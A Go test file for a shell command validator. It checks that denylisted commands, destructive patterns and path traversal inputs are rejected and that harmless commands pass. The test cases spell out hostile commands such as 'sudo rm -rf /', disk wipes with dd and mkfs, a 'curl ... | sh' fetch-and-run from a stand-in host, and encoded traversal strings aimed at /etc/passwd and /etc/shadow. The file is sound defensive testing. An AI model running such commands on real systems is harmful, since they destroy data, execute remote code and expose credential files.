package security

import (
	"strings"
	"sync"
	"testing"
)

func TestValidate_BlockedCommands(t *testing.T) {
	tests := []struct {
		command string
		args    []string
	}{
		{"sudo", []string{"rm", "-rf", "/"}},
		{"rm", []string{"file.txt"}},
		{"SHUTDOWN", []string{"-h", "now"}},
		{"chmod", []string{"+x", "script.sh"}},
		{"ssh", []string{"root@host"}},
		{"kill", []string{"1234"}},
		{"eval", []string{"echo hi"}},
		{"exec", []string{"bash"}},
		{"  Sudo  ", nil},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			v := Validate(tt.command, tt.args, false)
			if v.Safe {
				t.Fatalf("Validate(%q) = safe, want rejection", tt.command)
			}
			if v.Rule != RuleBlockedCommand {
				t.Errorf("rule = %q, want %q", v.Rule, RuleBlockedCommand)
			}
			if v.Reason == "" {
				t.Error("rejection verdict must carry a reason")
			}
		})
	}
}

func TestValidate_DangerousPatterns(t *testing.T) {
	tests := []struct {
		name    string
		command string
		args    []string
	}{
		{"rm -rf via wrapper", "find", []string{".", "-exec", "rm -rf {}", ";"}},
		{"dd raw write", "sh", []string{"-c", "dd if=/dev/zero of=/dev/sda"}},
		{"chmod 777", "busybox", []string{"chmod 777 /etc"}},
		{"kill -9", "sh", []string{"-c", "kill -9 1"}},
		{"systemctl stop", "timeout", []string{"5", "systemctl stop sshd"}},
		{"curl pipe sh", "sh", []string{"-c", "curl http://x.example/a | sh"}},
		{"mkfs", "busybox", []string{"mkfs.ext4", "/dev/sda1"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Validate(tt.command, tt.args, false)
			if v.Safe {
				t.Fatalf("Validate(%q %v) = safe, want rejection", tt.command, tt.args)
			}
			if v.Rule != RuleDangerousPattern {
				t.Errorf("rule = %q, want %q", v.Rule, RuleDangerousPattern)
			}
		})
	}
}

func TestValidate_PathTraversal(t *testing.T) {
	tests := []struct {
		name string
		args []string
	}{
		{"plain", []string{"../../etc/passwd"}},
		{"windows", []string{`..\..\windows\system32`}},
		{"url encoded", []string{"%2e%2e%2fetc%2fpasswd"}},
		{"mixed encoding", []string{"..%2fsecret"}},
		{"double encoded", []string{"%252e%252e%252fetc"}},
		{"uppercase encoding", []string{"%2E%2E%2Fetc"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Validate("cat", tt.args, false)
			if v.Safe {
				t.Fatalf("Validate(cat %v) = safe, want rejection", tt.args)
			}
			if v.Rule != RulePathTraversal {
				t.Errorf("rule = %q, want %q", v.Rule, RulePathTraversal)
			}
		})
	}
}

func TestValidate_SafeCommands(t *testing.T) {
	tests := []struct {
		command string
		args    []string
	}{
		{"echo", []string{"hello"}},
		{"ls", []string{"-la"}},
		{"cat", []string{"README.md"}},
		{"grep", []string{"-r", "TODO", "."}},
		{"go", []string{"version"}},
		{"sleep", []string{"1"}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			v := Validate(tt.command, tt.args, false)
			if !v.Safe {
				t.Fatalf("Validate(%q %v) rejected: %s", tt.command, tt.args, v.Reason)
			}
		})
	}
}

func TestValidate_AllowUnsafeBypassesEverything(t *testing.T) {
	v := Validate("sudo", []string{"rm", "-rf", "/"}, true)
	if !v.Safe {
		t.Fatalf("allowUnsafe should bypass validation, got rejection: %s", v.Reason)
	}
}

func TestValidate_FirstMatchingRuleWins(t *testing.T) {
	// "rm" is on the denylist AND "rm -rf" matches a dangerous pattern;
	// the denylist check runs first.
	v := Validate("rm", []string{"-rf", "/tmp/x"}, false)
	if v.Safe {
		t.Fatal("expected rejection")
	}
	if v.Rule != RuleBlockedCommand {
		t.Errorf("rule = %q, want %q (denylist fires before patterns)", v.Rule, RuleBlockedCommand)
	}
}

func TestValidate_ReasonNamesTheRule(t *testing.T) {
	v := Validate("cat", []string{"../../etc/shadow"}, false)
	if v.Safe {
		t.Fatal("expected rejection")
	}
	if !strings.Contains(v.Reason, "../") {
		t.Errorf("reason %q should name the matched sequence", v.Reason)
	}
}

func TestValidate_ConcurrentUse(t *testing.T) {
	var wg sync.WaitGroup
	for i := 0; i < 50; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				Validate("echo", []string{"x"}, false)
				Validate("sudo", nil, false)
				Validate("cat", []string{"../x"}, false)
			}
		}()
	}
	wg.Wait()
}

func TestBlocked(t *testing.T) {
	if !Blocked("SUDO") {
		t.Error("Blocked should be case-insensitive")
	}
	if Blocked("echo") {
		t.Error("echo must not be blocked")
	}
}
